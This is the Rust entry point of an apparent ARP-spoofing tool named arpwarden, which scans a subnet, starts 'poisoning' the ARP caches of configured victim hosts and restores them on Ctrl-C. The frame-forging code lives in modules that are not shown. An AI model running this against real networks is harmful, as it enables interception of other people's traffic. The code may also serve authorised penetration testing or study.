//! Arpwarden - entry point.
//!
//! Binds the core to an adapter, optionally sweeps the subnet for hosts,
//! starts poisoning the configured victims, and restores their caches on
//! Ctrl-C.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::Duration;

use anyhow::{Context, Result};
use tracing::{info, warn};

use arpwarden::config::Config;
use arpwarden::manager::ArpManager;
use arpwarden::network::{SystemPlatform, frame};

fn run() -> Result<()> {
    let config = Config::load("config.toml").context("Failed to load configuration")?;

    info!("Starting arpwarden...");
    arpwarden::metrics::init(&config.metrics).context("Failed to initialize metrics")?;

    let mut manager = ArpManager::with_options(SystemPlatform::new(), config.manager_options());

    let adapters = manager
        .adapters()
        .context("Failed to enumerate network adapters")?;
    for adapter in &adapters {
        info!(
            "adapter {} ({}) mac={} ip={:?} gateway={:?} up={} wireless={}",
            adapter.name,
            adapter.friendly_name,
            frame::format_mac(adapter.mac),
            adapter.ipv4,
            adapter.gateway,
            adapter.is_up,
            adapter.is_wireless,
        );
    }

    let interface = config
        .interface
        .clone()
        .or_else(|| {
            adapters
                .iter()
                .find(|a| a.is_viable())
                .map(|a| a.name.clone())
        })
        .context("No usable network adapter found")?;

    manager
        .initialize(&interface)
        .with_context(|| format!("Failed to initialize on adapter {interface}"))?;

    let topology = manager.topology().context("No topology after initialize")?;
    info!(
        "bound to {}: {}/{} gateway {} ({})",
        topology.interface,
        topology.local_ip,
        topology.prefix_len,
        topology.gateway_ip,
        topology
            .gateway_mac
            .map_or_else(|| "unresolved".to_string(), frame::format_mac),
    );

    if config.scan_on_start {
        match manager.scan() {
            Ok(hosts) => {
                info!("{} hosts on the segment", hosts.len());
                for host in hosts {
                    info!("  {} at {}", host.ip, frame::format_mac(host.mac));
                }
            }
            Err(e) => warn!("scan failed: {e}"),
        }
    }

    for target in &config.targets {
        match manager.start_poisoning(&target.ip, &target.mac) {
            Ok(()) => info!("poisoning {}", target.ip),
            Err(e) => warn!("failed to start poisoning {}: {e}", target.ip),
        }
    }

    let running = Arc::new(AtomicBool::new(true));
    let handler_flag = Arc::clone(&running);
    ctrlc::set_handler(move || handler_flag.store(false, Ordering::SeqCst))
        .context("Failed to install Ctrl-C handler")?;

    info!("running; Ctrl-C to restore and exit");
    while running.load(Ordering::SeqCst) {
        thread::sleep(Duration::from_millis(200));
    }

    info!("shutting down...");
    manager.cleanup();

    let stats = manager.performance_stats();
    info!(
        "sent {} frames ({} errors), received {} ({} errors)",
        stats.packets_sent, stats.send_errors, stats.packets_received, stats.receive_errors,
    );

    info!("Shutdown complete.");
    Ok(())
}

fn main() -> Result<()> {
    tracing_subscriber::fmt::init();
    run()
}
